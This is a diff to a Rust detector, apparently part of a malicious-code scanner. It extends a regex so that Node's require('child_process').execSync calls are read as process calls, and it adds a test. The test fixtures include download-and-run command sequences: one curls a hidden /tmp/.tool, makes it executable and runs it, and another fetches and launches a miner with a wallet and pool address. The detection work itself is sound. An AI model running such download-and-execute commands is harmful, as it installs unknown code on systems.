@@ -43,10 +43,12 @@ static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
     ))
     .expect("command download pattern")
 });
-/// What leads a command piece: an assignment, the call that runs it, its opening bracket and quote.
+/// What leads a command piece: an assignment, the call that runs it (on a module required in place,
+/// `require("child_process").execSync(`, as the evaluator writes what it resolved), its opening bracket and
+/// quote.
 #[allow(clippy::expect_used)]
 static LEAD: LazyLock<Regex> = LazyLock::new(|| {
-    ascii_regex(r#"^\s*(?:[\w.$]+\s*=\s*)?(?:[\w.]+\s*\(\s*)*[\[(]?\s*[rbfuRBFU]{0,2}["'`]?"#)
+    ascii_regex(r#"^\s*(?:[\w.$]+\s*=\s*)?(?:require\s*\(\s*["'][\w./:@-]{1,64}["']\s*\)\s*\.\s*)?(?:[\w.]+\s*\(\s*)*[\[(]?\s*[rbfuRBFU]{0,2}["'`]?"#)
         .expect("lead pattern")
 });
 #[allow(clippy::expect_used)]
@@ -269,6 +271,25 @@ mod tests {
         assert_eq!(fired(text, "pkg/__init__.py").len(), 1);
         let remote_name = "import os\nos.system('\"curl.exe -OLJ https://files.example.invalid/x/miner.exe\"')\nos.system('\"miner.exe -w WALLET -r 203.0.113.5:10100\"')\n";
         assert_eq!(fired(remote_name, "pkg/main.py").len(), 1);
+    }
+
+    #[test]
+    fn calls_on_a_module_required_in_place_are_read_as_process_calls() {
+        // How the evaluator writes `steps.forEach(cp.execSync)` over download, chmod and run steps.
+        let rendered = "require(\"child_process\").execSync(\"curl -s -o /tmp/.tool https://files.example.invalid/t\")\nrequire(\"child_process\").execSync(\"chmod +x /tmp/.tool\")\nrequire(\"child_process\").execSync(\"/tmp/.tool\")\n";
+        let fire = |text: &str| {
+            let mut n = 0;
+            for segment in segment_file(text, Language::Javascript, "setup.js") {
+                (COMMAND_DOWNLOAD_RUN.run)(&segment, text, &mut |_| {
+                    n += 1;
+                    true
+                });
+            }
+            n
+        };
+        assert_eq!(fire(rendered), 1);
+        let kept = "require(\"child_process\").execSync(\"curl -s -o /tmp/.tool https://files.example.invalid/t\")\nrequire(\"child_process\").execSync(\"chmod +x /tmp/.tool\")\n";
+        assert_eq!(fire(kept), 0);
     }
 
     #[test]
